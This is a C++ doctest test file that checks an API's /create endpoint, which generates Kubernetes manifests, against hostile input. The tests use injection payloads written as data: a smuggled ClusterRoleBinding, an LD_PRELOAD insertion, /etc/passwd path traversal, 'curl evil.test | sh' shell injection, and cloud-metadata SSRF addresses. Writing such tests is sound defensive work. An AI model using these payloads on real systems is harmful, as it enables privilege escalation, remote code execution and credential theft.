#include <doctest/doctest.h>

#include <algorithm>

#include "api/desk.hpp"
#include "api/original_catalogue.hpp"
#include "api/shape.hpp"
#include "base/text.hpp"

/// What the original let a client do, as requests to /create: none of it may work.
using namespace mlib;
using schema::Node;

namespace {

struct Asked {
  Node card;
  Node user = Node(Node::Map{{"id", "adam"}, {"namespace", "team-a"}, {"API_key", "key-of-adam-0123456789"}});
};

/// The listed template of that name with the user above.
Asked ask_for(std::string_view name) {
  for (const auto& card : api::original::catalogue_of(*api::Desk::shipped()).templates)
    if (card.name == name) return {api::Lister::list(card)};
  FAIL("no such template");
  return {};
}

net::Reply create(const Asked& asked) {
  const Node body(Node::Map{{"template", asked.card}, {"user", asked.user}});
  return api::Desk().post("/create", schema::to_json(body));
}

/// The objects in the YAML that /create answered.
std::vector<Node> objects(const net::Reply& reply) {
  INFO(reply.body);
  REQUIRE(reply.status == 200);
  const Node text = schema::read_json(reply.body);
  return schema::read_yaml(schema::Source{"answer", text.string()});
}

std::string kinds(const std::vector<Node>& made) {
  std::string all;
  for (const Node& object : made) all += object.text_at({"kind"}) + ' ';
  return all;
}

/// Every text in the tree.
void texts(const Node& node, std::vector<std::string>& found) {
  if (node.is_string()) found.push_back(node.string());
  if (node.is_list())
    for (const Node& item : node.items()) texts(item, found);
  if (node.is_map())
    for (const schema::Entry& entry : node.entries()) {
      found.push_back(entry.key);
      texts(entry.value, found);
    }
}

bool holds(const Node& node, std::string_view wanted) {
  std::vector<std::string> found;
  texts(node, found);
  return std::any_of(found.begin(), found.end(),
                     [&](const std::string& text) { return text.find(wanted) != std::string::npos; });
}

constexpr const char* llama = "Llama 2 7B Minimal";
constexpr const char* toolbox = "The Closed Magic Toolbox";
constexpr const char* deepsparse = "Deepsparse Chat";

}  // namespace

TEST_CASE("S1: no card's params override the user's namespace, id or key") {
  Asked asked = ask_for(toolbox);
  for (Node* params : {asked.card.find("params"), asked.card.find("deployment_card")->find("params"),
                       asked.card.find("model_card")->find("params")}) {
    params->set("namespace", "kube-system");
    params->set("id", "root");
    params->set("API_key", "key-of-the-attacker-000000");
  }
  for (const Node& object : objects(create(asked))) {
    CHECK_FALSE(holds(object, "kube-system"));
    CHECK_FALSE(holds(object, base64("key-of-the-attacker-000000")));
    const bool is_namespace = object.text_at({"kind"}) == "Namespace";
    CHECK(object.text_at({"metadata", is_namespace ? "name" : "namespace"}) == "team-a");
  }
}

TEST_CASE("S2: a value that holds documents stays one value") {
  const std::string evil =
      "zoo:x\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: "
      "x}\n---\n";
  Asked asked = ask_for(deepsparse);
  const std::vector<Node> honest = objects(create(asked));
  asked.card.find("model_card")->find("params")->set("model_path", evil);
  const std::vector<Node> made = objects(create(asked));
  CHECK(kinds(made) == kinds(honest));
  CHECK(std::any_of(made.begin(), made.end(), [&](const Node& object) { return holds(object, evil); }));
  for (const char* field : {"namespace", "id", "API_key"}) {
    Asked user = ask_for(toolbox);
    user.user.set(field, evil);
    const net::Reply reply = create(user);
    if (reply.status == 200) CHECK(kinds(objects(reply)).find("ClusterRoleBinding") == std::string::npos);
    if (std::string_view(field) == "namespace") CHECK(reply.status == 422);
  }
}

TEST_CASE("S3: a quote and a newline in the key add no field") {
  Asked asked = ask_for(toolbox);
  const std::string key = "k\"\n            - name: LD_PRELOAD\n              value: /tmp/evil.so\n";
  asked.user.set("API_key", key);
  const std::vector<Node> made = objects(create(asked));
  const bool kept = std::any_of(made.begin(), made.end(), [&](const Node& object) {
    return object.text_at({"kind"}) == "Secret" && holds(object, base64(key));
  });
  CHECK(kept);
  for (const Node& object : made) CHECK_FALSE(holds(object, "LD_PRELOAD"));
}

TEST_CASE("S4: a namespace of digits stays a text") {
  for (const char* name : {"123", "1e3", "0x10", "null", "true", "no"}) {
    Asked asked = ask_for(llama);
    asked.user.set("namespace", name);
    for (const Node& object : objects(create(asked)))
      if (object.text_at({"kind"}) != "Namespace") CHECK(object.text_at({"metadata", "namespace"}) == name);
  }
}

TEST_CASE("S5: the key is in a Secret and nowhere else, and in no error") {
  const std::string canary = "canary-4f9d2c7781aa03e5";
  Asked asked = ask_for(toolbox);
  asked.user.set("API_key", canary);
  int secrets = 0;
  for (const Node& object : objects(create(asked))) {
    if (object.text_at({"kind"}) == "Secret") {
      ++secrets;
      continue;
    }
    CHECK_FALSE(holds(object, canary));
    CHECK_FALSE(holds(object, base64(canary)));
  }
  CHECK(secrets == 1);
  asked.user.set("API_key", canary + "\": [");
  asked.card.find("params")->set("deployment_name", "Not A Name");
  CHECK(create(asked).body.find(canary) == std::string::npos);
  asked.user.set("namespace", 3);
  CHECK(create(asked).body.find(canary) == std::string::npos);
}

TEST_CASE("S6: a manifest is one of the catalogue's, never a file") {
  for (const char* path : {"/etc/passwd", "../../../../etc/passwd", "file:///etc/passwd",
                           "./llama_cpp_python.yaml", "frameworks/llama-cpp-python/manifest.yaml", ""}) {
    Asked asked = ask_for(llama);
    asked.card.find("model_card")->find("architecture")->set("deployment_yaml", path);
    const net::Reply reply = create(asked);
    CHECK(reply.status == 422);
    CHECK(reply.body.find("root:") == std::string::npos);
    CHECK(reply.body.find("deployment_yaml") != std::string::npos);
  }
}

TEST_CASE("S7: what a script would read is refused or is data") {
  for (const char* value : {"x; curl evil.test | sh #", "$(id)", "`id`", "a b", "'\"", "x\nid", "${IFS}"}) {
    Asked asked = ask_for(llama);
    asked.card.find("model_card")->find("params")->set("hf_repo_id", value);
    const net::Reply reply = create(asked);
    CAPTURE(reply.body);
    CHECK(reply.status == 422);
  }
}

TEST_CASE("S8: an address in a card is never asked, nor passed on") {
  Asked asked = ask_for(llama);
  asked.card.find("model_card")
      ->find("architecture")
      ->set("health_endpoint", "http://169.254.169.254/latest");
  asked.card.find("params")->set("weights", "http://169.254.169.254/latest/meta-data");
  const net::Reply reply = create(asked);
  CHECK(reply.status == 200);
  CHECK(reply.body.find("169.254") == std::string::npos);
}
